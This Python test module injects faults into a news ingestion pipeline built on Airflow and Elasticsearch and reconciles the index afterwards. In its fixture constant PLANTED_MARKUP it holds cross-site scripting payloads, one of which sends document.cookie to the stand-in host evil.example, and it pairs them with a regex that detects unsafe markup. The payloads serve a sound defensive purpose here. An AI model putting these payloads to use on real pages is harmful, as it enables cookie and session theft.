"""Fault injection: the real pipeline against real failures, then a count of what the index holds.

Every scenario serves synthetic outlets over HTTP on loopback addresses, runs the same job functions the
Airflow tasks run (`jobs.poll`, `jobs.process`; in a child process where one is killed), injects one kind
of fault, lets the retry or the next run finish, and reconciles the index with what the feeds published:
missing, duplicated, corrupted and unsafe documents must all be zero. The sustained load goes through a
real Airflow standalone instead, so the memory it measures is that of the scheduler's own processes.

Faults on Elasticsearch go through `EsProxy`, an HTTP proxy on loopback in front of the shared node. It
can cut the network in the middle of a bulk request (half of its items reach Elasticsearch, then every
connection is reset until it is restored) and answer bulk items or whole requests with 429. Stopping a
second node instead would cost a JVM on a 2-core machine, and a tiny `thread_pool.write.queue_size` is a
node-level static setting that would slow every other user of the shared node; the proxy injects the same
failures the client sees from a real node (connection reset, `es_rejected_execution_exception`) and
nothing else.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import random
import re
import resource
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import asdict, dataclass, field, fields
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import psutil
import yaml
from elasticsearch import Elasticsearch, helpers

from pipeline.fetch.loopback import Handler, LoopbackServer, RecordingHandler, reset, send, stall, static
from pipeline.local import airflow
from pipeline.local.airflow import ApiClient
from pipeline.store import index

# --- Synthetic outlets -------------------------------------------------------------------------------

LEADERS = ["Kassym-Jomart Tokayev", "Shavkat Mirziyoyev", "Sadyr Japarov", "Emomali Rahmon",
           "Serdar Berdimuhamedov"]
CAPITALS = ["Astana", "Tashkent", "Bishkek", "Dushanbe", "Ashgabat"]
SUBJECTS = ["water sharing on the Syr Darya", "the Middle Corridor rail link", "a new gas pipeline",
            "border delimitation", "trade turnover and investment", "regional security cooperation"]
# Hostile markup planted inside otherwise good articles: none of it may reach a stored field.
PLANTED_MARKUP = (
    '<script>document.location="http://evil.example/?c="+document.cookie</script>'
    '<p onclick="alert(1)" onmouseover="alert(2)">Read the <a href="javascript:alert(3)">statement</a> '
    'and <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">annex</a>.</p>'
    '<svg onload="alert(5)"><script>alert(6)</script></svg><iframe src="javascript:alert(7)"></iframe>'
)
UNSAFE = re.compile(r"<\s*/?\s*[a-z!][^>]*>|javascript:|\bon[a-z]+\s*=|data:text/html", re.I)
STUB_REASON = "extracted body too short"
BUDGET_REASON = "over the processing budget"


@dataclass(frozen=True)
class PublishedArticle:
    url: str
    title: str
    paragraphs: tuple[str, ...]
    feed: str
    stub: bool = False  # a page with too little text: expected in quarantine, not in the index


def _paragraphs(rng: random.Random, count: int) -> tuple[str, ...]:
    out = []
    for _ in range(count):
        leader, other = rng.sample(LEADERS, 2)
        capital, subject = rng.choice(CAPITALS), rng.choice(SUBJECTS)
        out.append(
            f"{leader} met {other} in {capital} on {rng.randint(1, 28)} November to discuss {subject}. "
            f"The delegations signed {rng.randint(2, 19)} documents worth {rng.randint(10, 900)} million "
            f"dollars, officials said, and agreed to meet again before the end of the year in "
            f"{rng.choice(CAPITALS)}; reference {rng.getrandbits(40):x}."
        )
    return tuple(out)


def _page(article: PublishedArticle, outlet: str) -> bytes:
    body = "".join(f"<p>{escape(p)}</p>" for p in article.paragraphs)
    if not article.stub:
        body = body.replace("</p>", "</p>" + PLANTED_MARKUP, 1)
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{escape(article.title)}</title>'
        f'<link rel="canonical" href="{escape(article.url)}">'
        f'<meta property="og:title" content="{escape(article.title)}"></head><body>'
        f'<header><nav><a href="/">{escape(outlet)}</a> | <a href="/world">World</a></nav></header>'
        f"<main><article><h1>{escape(article.title)}</h1>{body}</article></main>"
        f"<footer>© {escape(outlet)}. All rights reserved.</footer></body></html>"
    ).encode()


def _feed(name: str, home: str, items: list[PublishedArticle], published: datetime) -> bytes:
    entries = "".join(
        f"<item><title>{escape(item.title)}</title><link>{escape(item.url)}</link>"
        f'<guid isPermaLink="true">{escape(item.url)}</guid>'
        f"<pubDate>{format_datetime(published - timedelta(minutes=i))}</pubDate></item>"
        for i, item in enumerate(items)
    )
    return (
        f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>{escape(name)}</title>'
        f"<link>{escape(home)}</link><description>Synthetic outlet</description>{entries}</channel></rss>"
    ).encode()


def flaky(good: Handler, *failures: Handler) -> Handler:
    """Answers with each failure in turn, then always with `good`: a fault the next try gets past."""
    pending = list(failures)
    lock = threading.Lock()

    def handle(req: RecordingHandler) -> None:
        with lock:
            failure = pending.pop(0) if pending else None
        with _client_may_leave():
            (failure or good)(req)

    return handle


@contextmanager
def _client_may_leave() -> Iterator[None]:
    """A client that timed out or was killed is part of the scenario, not a server error."""
    try:
        yield
    except (BrokenPipeError, ConnectionResetError):
        pass


def status(code: int, **headers: str) -> Handler:
    return lambda req: send(req, code, b"temporarily unavailable", {"Content-Type": "text/plain", **headers})


def truncated(body: bytes) -> Handler:
    """Promises the whole body, sends a third of it and hangs up."""

    def handle(req: BaseHTTPRequestHandler) -> None:
        req.send_response(200)
        req.send_header("Content-Type", "text/html; charset=utf-8")
        req.send_header("Content-Length", str(len(body)))
        req.end_headers()
        req.wfile.write(body[: len(body) // 3])
        req.close_connection = True

    return handle


class ChaosSites:
    """`feeds` RSS outlets with `articles` pages each, spread over `hosts` loopback addresses."""

    def __init__(self, feeds: int, articles: int, hosts: int = 1, stubs: int = 0, seed: int = 7,
                 page_delay: float = 0.0):
        self.servers = [LoopbackServer(host=f"127.0.0.{i + 1}") for i in range(hosts)]
        self.published: list[PublishedArticle] = []
        self.feed_urls: dict[str, str] = {}
        self._feeds: list[tuple[LoopbackServer, str, str, list[PublishedArticle]]] = []
        self._pages: dict[str, bytes] = {}
        rng = random.Random(seed)
        now = datetime.now(UTC).replace(microsecond=0)
        for number in range(feeds):
            server = self.servers[number % hosts]
            name = f"Outlet {number:03d}"
            prefix = f"/outlet-{number:03d}"
            items = []
            for position in range(articles):
                stub = position < stubs
                url = server.url(f"{prefix}/news/{position:04d}-{rng.getrandbits(32):08x}.html")
                title = f"{name}: {rng.choice(LEADERS)} on {rng.choice(SUBJECTS)} ({position})"
                text = ("Subscribe to read.",) if stub else _paragraphs(rng, 4)
                items.append(PublishedArticle(url, title, text, name, stub))
            for item in items:
                path = urlsplit(item.url).path
                self._pages[item.url] = _page(item, name)
                page = static(self._pages[item.url], "text/html; charset=utf-8")
                server.routes[path] = _delayed(page, page_delay) if page_delay else page
            self.feed_urls[name] = server.url(f"{prefix}/feed.xml")
            self._feeds.append((server, prefix, name, items))
        self._now = now
        self.reveal(articles)
        for server in self.servers:
            server.routes["/robots.txt"] = static(b"User-agent: *\nAllow: /\n", "text/plain")

    def reveal(self, count: int) -> None:
        """Each feed lists its first `count` articles (more appear as count grows): `published` follows."""
        self.published = []
        for server, prefix, name, items in self._feeds:
            shown = items[:count]
            server.routes[f"{prefix}/feed.xml"] = static(_feed(name, server.url(prefix), shown, self._now))
            self.published += shown

    def page(self, url: str) -> bytes:
        return self._pages[url]

    def add_unlisted_page(self, feed: int, body: bytes) -> str:
        """List one more page after a feed's articles, one that is not among `published`: its URL."""
        server, prefix, name, items = self._feeds[feed]
        url = server.url(f"{prefix}/news/extra-{len(self._pages):04d}.html")
        self._pages[url] = body
        server.routes[urlsplit(url).path] = static(body, "text/html; charset=utf-8")
        extra = PublishedArticle(url, "An extra page", (), name)
        server.routes[f"{prefix}/feed.xml"] = static(_feed(name, server.url(prefix), [*items, extra], self._now))
        return url

    def break_route(self, url: str, *failures: Handler) -> None:
        """Make the next requests for `url` fail in the given ways, then succeed again."""
        path = urlsplit(url).path
        for server in self.servers:
            if url.startswith(server.base_url):
                server.routes[path] = flaky(server.routes[path], *failures)

    def page_requests(self) -> int:
        return sum(len([r for r in s.requests if "/news/" in r.path]) for s in self.servers)

    def write_feeds_config(self, path: Path, **http: float) -> Path:
        config = {
            "feeds": [{"name": name, "url": url, "type": "rss", "language": "en", "country": "KZ"}
                      for name, url in self.feed_urls.items()],
            "allow_private_hosts": ["127.0.0.0/8"],
            "http": {"min_host_delay": 0.0, "connect_timeout": 2.0, "read_timeout": 2.0, "deadline": 10.0,
                     **http},
        }
        path.write_text(yaml.safe_dump(config, allow_unicode=True))
        return path

    def __enter__(self) -> ChaosSites:
        for server in self.servers:
            server.__enter__()
        return self

    def __exit__(self, *exc) -> None:
        for server in self.servers:
            server.__exit__(*exc)


def _delayed(handler: Handler, seconds: float) -> Handler:
    def handle(req: RecordingHandler) -> None:
        time.sleep(seconds)
        with _client_may_leave():
            handler(req)

    return handle


# --- The proxy in front of Elasticsearch ----------------------------------------------------------------


@dataclass
class ProxyFaults:
    """What the proxy does to the next requests; counters say what it did."""

    down: bool = False  # every request: connection reset
    cut_next_bulk: bool = False  # forward half of the next bulk's items, then go down
    reject_bulk_requests: int = 0  # this many bulk requests answered with a whole-request 429
    reject_bulk_items: int = 0  # this many bulk requests get every other item refused with 429
    hold_bulk: threading.Event | None = None  # when set: a bulk request waits here (for a kill)
    bulk_seen: threading.Event = field(default_factory=threading.Event)
    requests: int = 0
    bulk_requests: int = 0
    resets: int = 0
    rejected_requests: int = 0
    rejected_items: int = 0

    def counters(self) -> dict[str, int]:
        return {f.name: getattr(self, f.name) for f in fields(self)
                if f.type == "int" and not f.name.startswith("reject_")}


REJECTED = {"type": "es_rejected_execution_exception", "reason": "rejected execution (write queue full)"}


def _bulk_pairs(body: bytes) -> list[list[bytes]]:
    """NDJSON bulk body -> one list of lines per operation (delete has no source line)."""
    lines = [line for line in body.split(b"\n") if line.strip()]
    operations, i = [], 0
    while i < len(lines):
        action = json.loads(lines[i])
        width = 1 if "delete" in action else 2
        operations.append(lines[i : i + width])
        i += width
    return operations


class EsProxy:
    """`with EsProxy(upstream) as proxy:` point ES_URL at proxy.url and steer `proxy.faults`."""

    def __init__(self, upstream: str):
        parts = urlsplit(upstream)
        if not parts.hostname:
            raise ValueError(f"no host in the Elasticsearch URL {upstream[:200]!r}")
        self.upstream_host, self.upstream_port = parts.hostname, parts.port
        self.faults = ProxyFaults()
        self._lock = threading.Lock()
        proxy = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def _any(self) -> None:
                proxy._handle(self)

            do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = _any  # noqa: N815 (http.server's naming)

            def log_message(self, format, *args) -> None:  # noqa: A002
                pass

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._httpd.server_address[1]}"
        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)

    def __enter__(self) -> EsProxy:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        if self.faults.hold_bulk is not None:
            self.faults.hold_bulk.set()
        self._httpd.shutdown()
        self._httpd.server_close()

    def _forward(self, method: str, path: str, headers: dict, body: bytes) -> tuple[int, list, bytes]:
        connection = http.client.HTTPConnection(self.upstream_host, self.upstream_port, timeout=120)
        try:
            connection.request(method, path, body=body or None, headers=headers)
            response = connection.getresponse()
            return response.status, response.getheaders(), response.read()
        finally:
            connection.close()

    def _handle(self, req: BaseHTTPRequestHandler) -> None:
        length = int(req.headers.get("Content-Length") or 0)
        body = req.rfile.read(length) if length else b""
        headers = {k: v for k, v in req.headers.items() if k.lower() not in ("host", "connection")}
        faults = self.faults
        is_bulk = "/_bulk" in urlsplit(req.path).path and req.command in ("POST", "PUT")
        with self._lock:
            faults.requests += 1
            if faults.down:
                faults.resets += 1
                return reset(req)  # a TCP reset, as from a node that went away
            reject_request = is_bulk and faults.reject_bulk_requests > 0
            reject_items = is_bulk and not reject_request and faults.reject_bulk_items > 0
            cut = is_bulk and faults.cut_next_bulk
            if is_bulk:
                faults.bulk_requests += 1
                faults.reject_bulk_requests -= reject_request
                faults.reject_bulk_items -= reject_items
                faults.cut_next_bulk = faults.cut_next_bulk and not cut
        if is_bulk:
            faults.bulk_seen.set()
            if faults.hold_bulk is not None:
                faults.hold_bulk.wait()
        if reject_request:
            faults.rejected_requests += 1
            error = {"error": REJECTED, "status": 429}
            return self._reply(req, 429, [("Content-Type", "application/json")], json.dumps(error).encode())
        if cut:
            operations = _bulk_pairs(body)
            half = b"".join(line + b"\n" for op in operations[: len(operations) // 2] for line in op)
            if half:
                self._forward(req.command, req.path, {**headers, "Content-Length": str(len(half))}, half)
            with self._lock:
                faults.down, faults.resets = True, faults.resets + 1
            return reset(req)  # a TCP reset, as from a node that went away
        if reject_items:
            return self._reject_items(req, headers, body)
        status_code, response_headers, payload = self._forward(req.command, req.path, headers, body)
        self._reply(req, status_code, response_headers, payload)

    def _reject_items(self, req: BaseHTTPRequestHandler, headers: dict, body: bytes) -> None:
        """Forward every other operation; answer the rest as an overloaded node does, item by item."""
        operations = _bulk_pairs(body)
        passed = [op for i, op in enumerate(operations) if i % 2 == 0]
        data = b"".join(line + b"\n" for op in passed for line in op)
        status_code, response_headers, payload = self._forward(
            req.command, req.path, {**headers, "Content-Length": str(len(data))}, data)
        forwarded = iter(json.loads(payload)["items"]) if status_code == 200 else None
        if forwarded is None:
            return self._reply(req, status_code, response_headers, payload)
        items = []
        for i, op in enumerate(operations):
            if i % 2 == 0:
                items.append(next(forwarded))
                continue
            action, meta = next(iter(json.loads(op[0]).items()))
            self.faults.rejected_items += 1
            items.append({action: {"_id": meta.get("_id"), "status": 429, "error": REJECTED}})
        merged = json.dumps({"took": 1, "errors": True, "items": items}).encode()
        self._reply(req, 200, [("Content-Type", "application/json")], merged)

    @staticmethod
    def _reply(req: BaseHTTPRequestHandler, code: int, headers: list, payload: bytes) -> None:
        req.send_response(code)
        skip = {"content-length", "transfer-encoding", "connection"}
        sent = {name.lower() for name, _ in headers}
        for name, value in headers:
            if name.lower() not in skip:
                req.send_header(name, value)
        if "x-elastic-product" not in sent:
            req.send_header("X-Elastic-Product", "Elasticsearch")
        req.send_header("Content-Length", str(len(payload)))
        req.end_headers()
        if req.command != "HEAD":
            req.wfile.write(payload)


# --- Running the jobs -----------------------------------------------------------------------------------


@dataclass
class Run:
    """Where one scenario's pipeline points: its own indices, archive and feeds file."""

    prefix: str
    es_url: str
    feeds: Path
    archive: Path

    @property
    def alias(self) -> str:
        return f"{self.prefix}-articles"

    def env(self) -> dict[str, str]:
        return {"ES_URL": self.es_url, "NEWS_INDEX": self.alias, "NEWS_FEEDS": str(self.feeds),
                "NEWS_ARCHIVE": str(self.archive), "NEWS_FEED_STATE_INDEX": f"{self.prefix}-feeds",
                "NEWS_QUARANTINE_INDEX": f"{self.alias}-quarantine"}

    @contextmanager
    def environment(self, **overrides: str) -> Iterator[None]:
        saved = {key: os.environ.get(key) for key in {**self.env(), **overrides}}
        os.environ.update({**self.env(), **overrides})
        try:
            yield
        finally:
            for key, value in saved.items():
                if value is None:
                    os.environ.pop(key, None)
                else:
                    os.environ[key] = value

    def poll(self, names: list[str], now: datetime | None = None) -> dict:
        from pipeline import jobs

        with self.environment():
            return jobs.poll(names, now=now)

    def process(self, files: list[str]) -> dict:
        from pipeline import jobs

        with self.environment():
            return jobs.process(files)

    def job_command(self, job: str, **arguments) -> list[str]:
        """A child Python running one job function, printing its JSON result (what an Airflow worker does)."""
        code = ("import json, sys; from datetime import datetime; from pipeline import jobs; "
                "arguments = json.loads(sys.argv[1]); "
                "arguments.update({k: datetime.fromisoformat(v) for k, v in arguments.items() "
                "if k == 'now'}); "
                f"result = jobs.{job}(**arguments); "
                "print(json.dumps(result, default=str))")
        return [sys.executable, "-c", code, json.dumps(arguments, default=str)]

    def spawn(self, job: str, preexec: Callable[[], None] | None = None, **arguments) -> subprocess.Popen:
        env = {**os.environ, **self.env(), "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
        return subprocess.Popen(self.job_command(job, **arguments), env=env, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, preexec_fn=preexec)


def finish(child: subprocess.Popen, timeout: float = 300) -> dict:
    """The job's result; a failed job raises with its error."""
    out, err = child.communicate(timeout=timeout)
    if child.returncode != 0:
        raise RuntimeError(f"job exited {child.returncode}: {err.strip()[-800:]}")
    return json.loads(out.strip().splitlines()[-1])


def new_files(poll_result: dict) -> list[str]:
    return list(poll_result.get("archive_files", []))


# --- Reconciling the index with what was published -----------------------------------------------------


@dataclass
class Reconciliation:
    published: int = 0
    indexed: int = 0
    quarantined: dict[str, int] = field(default_factory=dict)  # reason -> count
    missing: int = 0
    duplicated: int = 0
    corrupted: int = 0
    unsafe: int = 0
    unexpected: int = 0  # documents whose URL no feed published
    examples: list[str] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)  # the scenario's own checks that did not hold

    @property
    def ok(self) -> bool:
        problems = self.missing or self.duplicated or self.corrupted or self.unsafe or self.unexpected
        return not problems and not self.failures


def _strings(value) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _norm(text: str) -> str:
    return " ".join(text.split())


def reconcile(es: Elasticsearch, run: Run, published: list[PublishedArticle]) -> Reconciliation:
    """Every published article exactly once, intact and safe; stubs in quarantine with their reason."""
    es.indices.refresh(index=f"{run.prefix}-*", ignore_unavailable=True, allow_no_indices=True)
    result = Reconciliation(published=len(published))
    by_url: dict[str, list[dict]] = {}
    for hit in helpers.scan(es, index=run.alias, query={"query": {"match_all": {}}}, size=1000):
        by_url.setdefault(hit["_source"].get("url", ""), []).append(hit["_source"])
    expected = {article.url: article for article in published}
    quarantined_urls = set()
    quarantine = f"{run.alias}-quarantine"
    if es.indices.exists(index=quarantine):
        reasons = {}  # one reason per quarantined URL: two runs may each record the same page
        for hit in helpers.scan(es, index=quarantine, query={"query": {"match_all": {}}}, size=1000):
            record = hit["_source"]
            url = record.get("url") or (record.get("document") or {}).get("url", "")
            quarantined_urls.add(url)
            reasons[url] = str(record.get("reason", "?")).split("(")[0].strip()
        result.quarantined = dict(Counter(reasons.values()))

    def problem(kind: str, detail: str) -> None:
        setattr(result, kind, getattr(result, kind) + 1)
        if len(result.examples) < 10:
            result.examples.append(f"{kind}: {detail[:200]}")

    for url, docs in by_url.items():
        article = expected.get(url)
        if article is None:
            problem("unexpected", url)
            continue
        result.indexed += 1
        if len(docs) > 1:
            problem("duplicated", f"{url} x{len(docs)}")
        doc = docs[0]
        body = _norm(doc.get("body", ""))
        if _norm(doc.get("title", "")) != _norm(article.title) or not all(
            _norm(p) in body for p in article.paragraphs
        ):
            problem("corrupted", f"{url}: title {doc.get('title', '')[:60]!r}")
        unsafe = [match.group(0) for s in _strings(doc) if (match := UNSAFE.search(s))]
        if unsafe:
            problem("unsafe", f"{url}: {unsafe[0]!r}")
    for article in published:
        if article.url not in by_url and not (article.stub and article.url in quarantined_urls):
            problem("missing", article.url)
    return result


# --- Scenarios ------------------------------------------------------------------------------------------


@dataclass
class Scale:
    feeds: int = 4
    articles: int = 8  # per feed
    hosts: int = 2


@dataclass
class ScenarioReport:
    name: str
    fault: str
    seconds: float
    counts: Reconciliation
    injected: dict = field(default_factory=dict)
    notes: list[str] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return self.counts.ok

    def as_dict(self) -> dict:
        return {"name": self.name, "fault": self.fault, "seconds": round(self.seconds, 2), "ok": self.ok,
                **asdict(self.counts), "injected": self.injected, "notes": self.notes}


class Bench:
    """Shared set-up of the scenarios: the real node, a scratch folder, unique index prefixes, and where
    long scenarios report their progress."""

    def __init__(self, es: Elasticsearch, es_url: str, workdir: Path, scale: Scale,
                 progress: Callable[[str], None] = lambda message: None):
        self.es, self.es_url, self.workdir, self.scale, self.progress = es, es_url, workdir, scale, progress

    @contextmanager
    def run(self, name: str, sites: ChaosSites, es_url: str = "", **http: float) -> Iterator[Run]:
        prefix = f"chaos-{name.replace('_', '-')}-{os.urandom(4).hex()}"
        folder = self.workdir / prefix
        folder.mkdir(parents=True)
        run = Run(prefix, es_url or self.es_url, sites.write_feeds_config(folder / "feeds.yaml", **http),
                  folder / "archive")
        try:
            yield run
        finally:
            index.delete_all(self.es, prefix)

    @contextmanager
    def polled_behind_proxy(self, name: str) -> Iterator[tuple[ChaosSites, EsProxy, Run, list[str]]]:
        """Sites polled into the archive, with a proxy between the pipeline and Elasticsearch."""
        with self.sites() as sites, EsProxy(self.es_url) as proxy, self.run(name, sites, proxy.url) as run:
            yield sites, proxy, run, _poll_all(run, sites)

    def sites(self, **overrides) -> ChaosSites:
        options = {"feeds": self.scale.feeds, "articles": self.scale.articles, "hosts": self.scale.hosts,
                   "stubs": 1, **overrides}
        return ChaosSites(**options)


Outcome = tuple[Reconciliation, dict, list[str]]  # counts, faults injected, notes


def _timed(name: str, fault: str, body: Callable[[], Outcome]) -> ScenarioReport:
    started = time.perf_counter()
    counts, injected, notes = body()
    return ScenarioReport(name, fault, time.perf_counter() - started, counts, injected, notes)


def _poll_all(run: Run, sites: ChaosSites, rounds: int = 1) -> list[str]:
    """Poll every feed `rounds` times, each two days after the last (past any backoff, so every feed is
    due again); the archive files written."""
    files = []
    for day in range(rounds):
        files += new_files(run.poll(list(sites.feed_urls), now=datetime.now(UTC) + timedelta(days=2 * day)))
    return files


def es_cut_mid_bulk(bench: Bench) -> ScenarioReport:
    """The network to Elasticsearch is cut halfway through a bulk request; the task retry completes it."""

    def body():
        with bench.polled_behind_proxy("es-cut") as (sites, proxy, run, files):
            proxy.faults.cut_next_bulk = True
            notes = []
            try:
                run.process(files)
                notes.append("first attempt did not fail")
            except Exception as error:  # the task fails: Airflow retries it
                notes.append(f"first attempt failed: {type(error).__name__}")
            proxy.faults.down = False  # the node is back
            retry = run.process(files)
            notes.append(f"retry: {retry.get('index')}")
            return reconcile(bench.es, run, sites.published), proxy.faults.counters(), notes

    return _timed("es_cut_mid_bulk", "connection reset mid-bulk, node unreachable until the retry", body)


def es_overloaded_429(bench: Bench) -> ScenarioReport:
    """Elasticsearch refuses whole bulk requests and single items with 429; backoff and retries finish."""

    def body():
        with bench.polled_behind_proxy("es-429") as (sites, proxy, run, files):
            proxy.faults.reject_bulk_requests = 2
            proxy.faults.reject_bulk_items = 3
            result = run.process(files)
            notes = [f"process: {result.get('index')}"]
            return reconcile(bench.es, run, sites.published), proxy.faults.counters(), notes

    return _timed("es_overloaded_429", "2 bulk requests 429, then half the items of 3 bulks 429", body)


def _kill_when(child: subprocess.Popen, ready: Callable[[], bool], timeout: float = 120) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline and child.poll() is None:
        if ready():
            child.send_signal(signal.SIGKILL)
            child.wait()
            return True
        time.sleep(0.02)
    return False


def worker_killed_during_fetch(bench: Bench) -> ScenarioReport:
    """SIGKILL to the poll worker while it is fetching pages; the re-run fetches everything."""

    def body():
        with bench.sites(page_delay=0.05) as sites, bench.run("kill-fetch", sites) as run:
            half = len(sites.published) // 2
            child = run.spawn("poll", feed_names=list(sites.feed_urls))
            killed = _kill_when(child, lambda: sites.page_requests() >= half)
            files = new_files(finish(run.spawn("poll", feed_names=list(sites.feed_urls))))
            result = finish(run.spawn("process", files=files))
            killed_note = f"killed after {sites.page_requests()} page requests"
            notes = [killed_note if killed else "worker ended first",
                     f"process: {result.get('index')}"]
            return reconcile(bench.es, run, sites.published), {"sigkill": int(killed)}, notes

    return _timed("worker_killed_during_fetch", "SIGKILL of the poll worker halfway through the pages", body)


def worker_killed_during_index(bench: Bench) -> ScenarioReport:
    """SIGKILL to the process worker while its bulk request is in flight; the re-run indexes everything."""

    def body():
        with bench.polled_behind_proxy("kill-index") as (sites, proxy, run, files):
            proxy.faults.hold_bulk = threading.Event()
            child = run.spawn("process", files=files)
            killed = _kill_when(child, proxy.faults.bulk_seen.is_set)
            proxy.faults.hold_bulk.set()  # the held request reaches Elasticsearch after its sender died
            proxy.faults.hold_bulk = None
            result = finish(run.spawn("process", files=files))
            notes = ["killed with a bulk request in flight" if killed else "worker ended first",
                     f"re-run: {result.get('index')}"]
            injected = {"sigkill": int(killed), **proxy.faults.counters()}
            return reconcile(bench.es, run, sites.published), injected, notes

    return _timed("worker_killed_during_index", "SIGKILL of the process worker during its bulk request", body)


def sources_failing(bench: Bench) -> ScenarioReport:
    """Feeds and pages on several hosts fail at once in every transient way; later polls pick it all up."""

    def body():
        with bench.sites(hosts=max(3, bench.scale.hosts)) as sites, bench.run("sources", sites) as run:
            feeds = list(sites.feed_urls.values())
            failures = [status(503, Retry_After="120"), reset, status(500), stall(3), status(429)]
            for i, url in enumerate(feeds):
                sites.break_route(url, failures[i % len(failures)])
            pages = [a for a in sites.published if not a.stub]
            page_failures = [status(502), reset, stall(3), truncated(sites.page(pages[0].url)), status(503)]
            for i, article in enumerate(pages[::3]):
                sites.break_route(article.url, page_failures[i % len(page_failures)])
            files = _poll_all(run, sites, rounds=3)
            result = run.process(files)
            injected = {"feeds_broken": len(feeds), "pages_broken": len(pages[::3])}
            return reconcile(bench.es, run, sites.published), injected, [f"process: {result.get('index')}"]

    return _timed("sources_failing", "503/429/500/reset/stall feeds and 502/503/reset/stall/truncated "
                  "pages on 3 hosts", body)


def _archive_fault(kind: str, folder: Path) -> tuple[Callable[[], None] | None, Callable[[], object], str]:
    """(preexec for the worker, clean-up, what was done) making `folder` full or read-only for the poll worker.

    Where we may mount (root in a privileged container) the folder becomes a tiny or a read-only tmpfs.
    Otherwise a file-size limit on the worker stands in for the full disk, and the folder loses its write
    permission, or, for root who writes through permissions, is a plain file nothing can be created in.
    """
    folder.mkdir(parents=True, exist_ok=True)
    if os.geteuid() == 0:
        options = "size=16k" if kind == "full" else "ro,size=1m"
        try:
            mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)],
                                     capture_output=True).returncode == 0
        except OSError:
            mounted = False
        if mounted:
            what = "a 16 KiB tmpfs" if kind == "full" else "a read-only tmpfs"
            return None, lambda: subprocess.run(["umount", str(folder)], check=False), what
    if kind == "full":
        limit = lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))  # noqa: E731
        return limit, lambda: None, "a 4 KiB file-size limit on the worker"
    if os.geteuid() == 0:
        folder.rmdir()
        folder.write_text("")

        def restore() -> None:
            folder.unlink()
            folder.mkdir()

        return None, restore, "a plain file where the folder should be"
    folder.chmod(0o555)
    return None, lambda: folder.chmod(0o755), "a folder without write permission"


def archive_unusable(bench: Bench, kind: str) -> ScenarioReport:
    """The raw archive is full or read-only: the poll fails with the reason and marks nothing as fetched."""

    def body():
        with bench.sites() as sites, bench.run(f"archive-{kind}", sites) as run:
            preexec, cleanup, how = _archive_fault(kind, run.archive)
            try:
                child = run.spawn("poll", preexec=preexec, feed_names=list(sites.feed_urls))
                out, err = child.communicate(timeout=300)
            finally:
                cleanup()
            failed_clearly = child.returncode != 0 and bool(re.search(
                r"No space left|File too large|Permission denied|Read-only|Not a directory", err))
            state_index = f"{run.prefix}-feeds"
            bench.es.indices.refresh(index=state_index, ignore_unavailable=True)
            marked = bench.es.count(index=state_index, ignore_unavailable=True)["count"] \
                if bench.es.indices.exists(index=state_index) else 0
            last_line = err.strip().splitlines()[-1][:160] if err.strip() else ""
            notes = [f"archive made {how}", f"poll exit {child.returncode}: {last_line}",
                     f"feed states saved: {marked}"]
            files = new_files(run.poll(list(sites.feed_urls)))
            run.process(files)
            counts = reconcile(bench.es, run, sites.published)
            if not failed_clearly:
                counts.failures.append("the poll did not fail with the file system's reason")
            if marked:
                counts.failures.append(f"{marked} feeds marked as polled although nothing was archived")
            return counts, {"failed_clearly": int(failed_clearly), "feeds_marked": marked}, notes

    fault = "the raw archive full" if kind == "full" else "the raw archive not writable"
    return _timed(f"archive_{kind}", fault, body)


def concurrent_runs(bench: Bench) -> ScenarioReport:
    """Two workers poll and process the same feeds at the same time: one copy of each article."""

    def body():
        with bench.sites() as sites, bench.run("concurrent", sites) as run:
            names = list(sites.feed_urls)
            polls = [run.spawn("poll", feed_names=names) for _ in range(2)]
            files = [new_files(finish(child)) for child in polls]
            processes = [run.spawn("process", files=f) for f in files]
            results = [finish(child) for child in processes]
            notes = [f"run {i}: {len(f)} files, {r.get('index')}"
                     for i, (f, r) in enumerate(zip(files, results, strict=True), start=1)]
            return reconcile(bench.es, run, sites.published), {"concurrent_runs": 2}, notes

    return _timed("concurrent_runs", "two poll+process runs over the same feeds at once", body)


def migrate_mid_stream(bench: Bench) -> ScenarioReport:
    """The index is migrated to a new version while a process run writes, one archive file at a time."""

    def body():
        with bench.sites() as sites, bench.run("migrate", sites) as run:
            files = [file for name in sites.feed_urls for file in new_files(run.poll([name]))]
            run.process(files[:1])
            first_written = threading.Event()

            def write_rest() -> None:
                for number, file in enumerate(files[1:]):
                    run.process([file])
                    if number == 0:
                        first_written.set()

            writer = threading.Thread(target=write_rest)
            writer.start()
            first_written.wait(timeout=120)
            migration = index.migrate(bench.es, run.alias)
            writer.join()
            notes = [f"{migration.old_index} -> {migration.new_index}: {migration.copied} copied, "
                     f"{migration.caught_up} caught up, {len(files)} archive files written around it"]
            return reconcile(bench.es, run, sites.published), {"migrations": 1}, notes

    return _timed("migrate_mid_stream", "index migrate (copy + alias swap) while a process run writes", body)


class MemorySampler:
    """Peak resident memory per role while a block runs, sampled from the process table: Elasticsearch's
    JVM and every process of an Airflow standalone (task workers, scheduler, dag processor, API server,
    triggerer). A role's peak is that of its largest single process."""

    COMPONENTS = ("scheduler", "dag-processor", "api_server", "triggerer")

